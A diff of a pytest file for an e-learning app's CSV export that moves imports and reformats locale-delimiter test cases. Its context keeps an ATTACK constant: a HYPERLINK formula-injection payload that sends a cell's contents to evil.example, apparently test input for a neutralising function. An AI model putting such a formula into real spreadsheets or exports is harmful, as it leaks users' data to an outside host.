@@ -5,8 +5,8 @@ import io
 
 import pytest
 
-from elearn.progress.csvfile import inert, locale_delimiter, table_csv
-from elearn.progress.tables import Cell, Table
+from elearn.web.csvfile import inert, locale_delimiter, table_csv
+from elearn.web.tables import Cell, Table
 
 ATTACK = '=HYPERLINK("http://evil.example/?d="&A2,"Giorgi")'
 
@@ -38,9 +38,15 @@ def test_other_cells_are_unchanged(value):
 
 @pytest.mark.parametrize(
     ("locale", "delimiter"),
-    [("en", "comma"), ("ro", "semicolon"), ("uk", "semicolon"), ("az", "semicolon"),
-     ("hy", "semicolon"), ("ka", "semicolon")],
-)  # fmt: skip
+    [
+        ("en", "comma"),
+        ("ro", "semicolon"),
+        ("uk", "semicolon"),
+        ("az", "semicolon"),
+        ("hy", "semicolon"),
+        ("ka", "semicolon"),
+    ],
+)
 def test_the_delimiter_follows_the_locales_decimal_separator(locale, delimiter):
     assert locale_delimiter(locale) == delimiter
 
